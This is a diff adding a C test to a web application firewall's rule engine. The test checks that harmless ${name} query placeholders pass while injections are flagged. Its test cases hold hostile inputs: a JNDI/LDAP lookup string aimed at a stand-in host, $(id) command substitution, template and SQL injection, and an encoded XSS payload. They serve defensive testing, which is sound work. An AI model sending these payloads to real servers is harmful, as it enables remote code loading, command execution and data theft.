@@ -259,6 +259,49 @@ static void test_exclusion_threshold(const struct crs_engine *dflt)
 	crs_close(high);
 }
 
+/* ---- template placeholders (932130 on ${name} alone) ---------------------- */
+
+static void test_placeholders(const struct crs_engine *e)
+{
+	static const unsigned int excl[] = { 932130 };
+	static const struct {
+		const char *query;
+		bool spared;
+	} cases[] = {
+		{ "city=${city}&maxPrice=${maxPrice}", true },       /* two arguments: 10 */
+		{ "price=${AUCTION_PRICE}&cur=USD", true },           /* an ad server's macro */
+		{ "p=${AUCTION_PRICE:B64}&id=${AUCTION_ID}", true },  /* with its encoding */
+		{ "t=%24%7BUser_Name%7D", true },                     /* encoded once */
+		{ "x=${7*7}", false },                                /* template injection */
+		{ "x=${jndi:ldap://a.example/x}", false },
+		{ "x=${env:HOME}", false },
+		{ "x=${X:}", false },
+		{ "q=$(id)", false },
+		{ "a=${x}&b=$(id)", false },
+		{ "a=${x}&b=%24%20(id)", false },                    /* t:cmdLine's "$ (" */
+		{ "xss=[].sort.call%60%24%7Balert%7D1337%60", false }, /* a JavaScript template */
+		{ "a=%2524%257Bx%257D", false },                      /* decoded by CRS twice */
+		{ "id=1%27%20OR%20%271%27%3D%271&a=${x}", false },    /* 942100 too */
+	};
+	struct crs_engine *ex = open_engine(1, 0, excl, 1, false);
+	struct req q = browser("/api", NULL);
+	struct crs_result r;
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		q.query = cases[i].query;
+		r = eval_full(e, &q);
+		ok(r.score >= 5 && r.placeholder == cases[i].spared && r.flagged != cases[i].spared,
+		   "%s: score %u, %s", cases[i].query, r.score,
+		   cases[i].spared ? "placeholders alone, not flagged" : "flagged");
+	}
+	/* Without 932130 another rule's score is no placeholder's. */
+	q.query = "id=1%27%20OR%20%271%27%3D%271&a=${x}";
+	r = eval_full(ex, &q);
+	ok(r.score == 5 && !r.placeholder && r.flagged,
+	   "932130 excluded: one other rule beside a ${name} flags (score %u)", r.score);
+	crs_close(ex);
+}
+
 /* ---- the corroborated level ---------------------------------------------- */
 
 /* q scored as a record answered with status (0: no status, as a live head). */
@@ -755,6 +798,7 @@ int main(void)
 	test_hits_bounded(e);
 	test_paranoia();
 	test_exclusion_threshold(e);
+	test_placeholders(e);
 	test_corroborated();
 	test_signs_json();
 	test_load_errors();
